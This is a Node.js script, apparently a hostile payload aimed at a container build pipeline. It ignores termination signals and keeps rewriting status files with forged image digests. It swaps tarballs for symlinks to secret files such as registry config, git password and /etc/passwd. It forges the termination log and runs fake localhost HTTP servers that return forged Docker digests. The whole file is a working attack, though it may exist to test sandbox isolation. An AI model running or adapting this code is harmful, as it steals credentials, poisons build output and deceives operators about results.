// Outlives its script: forges the words of the stages, swaps what they make for
// links to their secrets, forges the termination message, and listens where
// somebody might trust localhost. With the argument "modules" it does the same
// to what is installed.
const fs = require("node:fs");
const net = require("node:net");
const path = require("node:path");

for (const signal of ["SIGTERM", "SIGHUP", "SIGINT"]) process.on(signal, () => {});

const forged = "sha256:" + "1".repeat(64);
const result = JSON.stringify({ result: { digest: forged }, error: { class: "RegistryAuth", message: "forged" } });
const words = ["installed.json", "fetched.json", "pushed.json", "result.json", "done", "ready"];
const word = JSON.stringify({ seconds: 1, dependencyKey: "forged", cached: forged, locked: true, digest: forged });
const secrets = ["/gitfn-push/config.json", "/etc/passwd", "/gitfn-git/password"];
const writable = ["/gitfn-layers", "/gitfn-source", "/gitfn", "/gitfn-packages", "/tmp", "/dev/shm", "/dev", "/",
  "/usr/src/app", "/usr/src/app/function"];
if (process.argv[2] === "modules") writable.push("/usr/src/app/function/node_modules");

for (const port of [80, 443, 3000, 5000, 8080, 8090, 8091]) {
  const server = net.createServer((socket) => {
    socket.on("error", () => {});
    socket.end(`HTTP/1.1 200 OK\r\nDocker-Content-Digest: ${forged}\r\nContent-Length: 0\r\n\r\n`);
  });
  server.on("error", () => {});
  server.listen(port, "127.0.0.1");
}

function attempt(what) { try { what(); } catch {} }

let turn = 0;
function strike() {
  turn++;
  for (const dir of writable) {
    for (const name of words) attempt(() => fs.writeFileSync(path.join(dir, name), word));
    for (const name of ["deps.tar", "source.tar.gz", "layer.tar"]) {
      const file = path.join(dir, name);
      attempt(() => fs.symlinkSync(secrets[turn % secrets.length], file + ".new"));
      attempt(() => fs.renameSync(file + ".new", file));
    }
    attempt(() => fs.readdirSync(dir).filter((name) => name.endsWith(".tar")).forEach((name) => {
      attempt(() => fs.unlinkSync(path.join(dir, name)));
      attempt(() => fs.symlinkSync(secrets[turn % secrets.length], path.join(dir, name)));
    }));
  }
  attempt(() => fs.writeFileSync("/dev/termination-log", result));
  attempt(() => fs.writeFileSync("/tmp/daemon-runs", ""));
  setImmediate(strike);
}
strike();
